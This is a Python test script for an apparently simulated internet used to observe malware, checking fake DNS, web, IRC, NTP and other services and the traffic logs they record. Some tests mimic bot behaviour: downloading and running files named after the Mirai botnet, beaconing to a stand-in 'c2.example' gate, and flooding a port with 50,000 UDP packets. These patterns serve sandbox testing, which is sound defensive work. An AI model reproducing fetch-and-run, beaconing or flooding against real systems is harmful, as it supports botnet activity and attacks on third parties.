#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Clients of the simulated internet, and (--after…) a look at what was recorded of them."""
import json
import socket
import struct
import subprocess
import sys
import time
import urllib.request


def query(name, kind, ident=0x1234, edns=False):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    extra = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0) if edns else b""
    return struct.pack(">HHHHHH", ident, 0x100, 1, 0, 0, 1 if edns else 0) + labels + struct.pack(">HH", kind, 1) + extra


def ask(server, name, kind, family=socket.AF_INET, port=53, **kw):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((server, port))  # only an answer from that very address and port is received
        s.send(query(name, kind, **kw))
        return s.recv(4096)


def counts(message):
    return struct.unpack(">HHHHHH", message[:12])


def address_of(message, size):
    return message[-size:]


def test_dns_answers_from_the_address_that_was_asked():
    first = ask("8.8.8.8", "bei.game918.me", 1)
    again = ask("1.2.3.4", "BEI.game918.me", 1)
    assert counts(first)[:4] == (0x1234, 0x8180, 1, 1), counts(first)
    assert address_of(first, 4) == address_of(again, 4)
    assert first[-4:-1] in (bytes([198, 51, 100]), bytes([203, 0, 113]))


def test_dns_over_ipv6():
    message = ask("2001:4860:4860::8888", "six.example", 28, family=socket.AF_INET6)
    assert counts(message)[3] == 1 and address_of(message, 16)[:4] == bytes.fromhex("20010db8")


def test_dns_edns_and_a_missing_name():
    assert counts(ask("9.9.9.9", "edns.example", 1, edns=True))[5] == 1
    assert counts(ask("9.9.9.9", "a.missing.example", 1))[1] & 15 == 3


def test_dns_over_tcp_and_on_another_port():
    with socket.create_connection(("8.8.4.4", 53), 5) as s:
        q = query("tcp.example", 1)
        s.sendall(struct.pack(">H", len(q)) + q)
        size, = struct.unpack(">H", s.recv(2))
        assert counts(s.recv(size))[3] == 1
    assert counts(ask("8.8.4.4", "other.example", 1, port=5353 + 1))[3] == 1


def test_names_resolve_and_pages_load():
    page = urllib.request.urlopen("http://93.184.216.34/index.html", timeout=5)
    assert page.status == 200 and b"<html>" in page.read()
    elf = urllib.request.urlopen("http://93.184.216.34:8081/bins/mirai.x86_64", timeout=5).read()
    assert elf[:4] == b"\x7fELF"
    script = urllib.request.urlopen("http://[2606:2800::1]/a.sh", timeout=5).read()
    assert script.startswith(b"#!/bin/sh")


def test_programs_that_are_served_run_and_end():
    for name in ("mirai.x86_64", "mirai.i686"):
        data = urllib.request.urlopen("http://1.1.1.1/" + name, timeout=5).read()
        with open(name, "wb") as f:
            f.write(data)
        assert subprocess.run(["/bin/chmod", "+x", name]).returncode == 0
        assert subprocess.run(["./" + name]).returncode == 0, name


def test_a_post_and_a_second_request_on_one_connection():
    with socket.create_connection(("5.6.7.8", 80), 5) as s:
        s.sendall(b"POST /gate.php HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 11\r\n\r\nid=1&os=lin")
        assert s.recv(4096).startswith(b"HTTP/1.1 200 OK")
        s.sendall(b"GET /generate_204 HTTP/1.1\r\nHost: c2.example\r\nConnection: close\r\n\r\n")
        assert s.recv(4096).startswith(b"HTTP/1.1 204")
        assert s.recv(1) == b""


def test_any_port_of_any_address_is_accepted():
    for address, port in (("10.11.12.13", 21351), ("100.64.1.1", 1), ("203.0.113.200", 65535)):
        with socket.create_connection((address, port), 5) as s:
            s.sendall(b"\x01\x00\x00\x00gates-hello")
            s.settimeout(0.2)
            try:
                assert s.recv(1) != b""
                raise AssertionError("the silent service spoke")
            except socket.timeout:
                pass


def test_banners():
    for port, word in ((25, b"220 "), (21, b"220 "), (22, b"SSH-2.0"), (23, b"\r\nlogin"), (110, b"+OK")):
        with socket.create_connection(("4.4.4.4", port), 5) as s:
            assert s.recv(256).startswith(word), port


def test_irc_registers_a_client():
    with socket.create_connection(("4.4.4.4", 6667), 5) as s:
        s.sendall(b"NICK bot7\r\nUSER a b c :d\r\n")
        assert b" 001 bot7 " in s.recv(4096)


def test_tls_is_told_at_once():
    with socket.create_connection(("4.4.4.4", 443), 5) as s:
        s.sendall(bytes.fromhex("160301000501000001aa"))
        assert s.recv(16)[:1] == b"\x15"


def test_ntp_answers():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect(("17.253.34.253", 123))
        s.send(b"\x23" + b"\0" * 39 + b"ABCDEFGH")
        answer = s.recv(100)
        assert answer[0] & 7 == 4 and answer[24:32] == b"ABCDEFGH"
        assert abs(struct.unpack(">I", answer[40:44])[0] - 2208988800 - time.time()) < 5


def test_other_datagrams_are_taken():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"hello, c2", ("6.6.6.6", 4444))


def test_a_crowd_of_connections():
    crowd = []
    for i in range(600):
        crowd.append(socket.create_connection(("7.7.%d.%d" % (i >> 8, i & 255), 2000 + i), 5))
    for s in crowd:
        s.close()


def test_echo_requests_are_answered():
    for tool in (["-c1", "-W2", "123.45.67.89"], ["-6", "-c1", "-W2", "2001:db8::99"]):
        try:
            done = subprocess.run(["ping"] + tool, stdout=subprocess.DEVNULL)
        except FileNotFoundError:
            return print("  (no ping here)")
        assert done.returncode == 0, tool


def ask_neighbour(target, sender):
    """Whether somebody answers an ARP request."""
    mac = bytes.fromhex(open("/sys/class/net/eth0/address", encoding="ascii").read().strip().replace(":", ""))
    request = (b"\xff" * 6 + mac + bytes.fromhex("080600010800060400" "01") + mac + socket.inet_aton(sender) + bytes(6) +
               socket.inet_aton(target))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
        s.bind(("eth0", 0))
        s.settimeout(0.5)
        s.send(request)
        try:
            while True:
                reply = s.recv(100)
                if reply[20:22] == b"\0\2" and reply[28:32] == socket.inet_aton(target):
                    return True
        except socket.timeout:
            return False


def test_neighbours_answer_but_not_for_the_guests_own_address():
    assert ask_neighbour("192.0.2.1", "192.0.2.77")
    assert ask_neighbour("192.0.2.200", "192.0.2.77")
    assert not ask_neighbour("192.0.2.77", "192.0.2.77")  # the announcement of an address


FLOOD = 50000


def flood():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for i in range(FLOOD):
            s.sendto(b"x" * (i % 1000), ("6.6.6.6", 4444))


def after_flood(report):
    report = json.load(open(report, encoding="utf-8"))
    seen = sum(g["packets"] for g in report["groups"] if g["target_port"] == 4444)
    print("  flood: %d sent, %d captured, %d dropped" % (FLOOD, seen, report["dropped"]))
    assert not report["is_uncounted"] and not report["is_cut"]
    assert seen + report["dropped"] >= FLOOD > 0 and seen <= FLOOD
    assert report["dropped"] == 0 or seen + report["dropped"] <= FLOOD + 1000  # neighbour discovery and the like


def after(log, capture, report):
    report = json.load(open(report, encoding="utf-8"))
    assert report["dropped"] == report["unwritten"] == 0 and not report["is_uncounted"]
    flow = next(f for f in report["flows"] if f["target_port"] == 21351)
    assert flow["state"] == "closed" and flow["is_from_guest"] and bytes.fromhex(flow["first_sent"]).endswith(b"gates-hello")
    assert any(d["name"] == "bei.game918.me" and d["answers"][0]["value"].startswith(("198.51.100.", "203.0.113."))
               for d in report["dns"])
    assert any(h["url"] == "http://c2.example/gate.php" and h["status"] == 200 for h in report["http"])
    assert not report["anomalies"], report["anomalies"]

    lines = [json.loads(line) for line in open(log, encoding="utf-8")]
    summary = lines[-1]
    assert summary["event"] == "summary" and summary["connections"] >= 617, summary
    assert summary["unanswered"] == 0 and summary["dropped_lines"] == 0, summary
    assert any(x["event"] == "dns" and x["name"] == "bei.game918.me" for x in lines)
    assert any(x["event"] == "tcp" and x["port"] == 21351 and "gates-hello" in x["first"] for x in lines)
    assert any(x["event"] == "udp" and x["first"] == "hello, c2" for x in lines)
    data = open(capture, "rb").read()
    assert b"bei\x07game918\x02me" in data and b"gates-hello" in data
    print("  summary:", json.dumps(summary), "capture:", len(data), "bytes")


if __name__ == "__main__":
    modes = {"--after": after, "--flood": flood, "--after-flood": after_flood}
    if sys.argv[1:2]:
        modes[sys.argv[1]](*sys.argv[2:])
    else:
        for name, function in list(globals().items()):
            if name.startswith("test_"):
                function()
                print("ok", name[5:].replace("_", " "), flush=True)
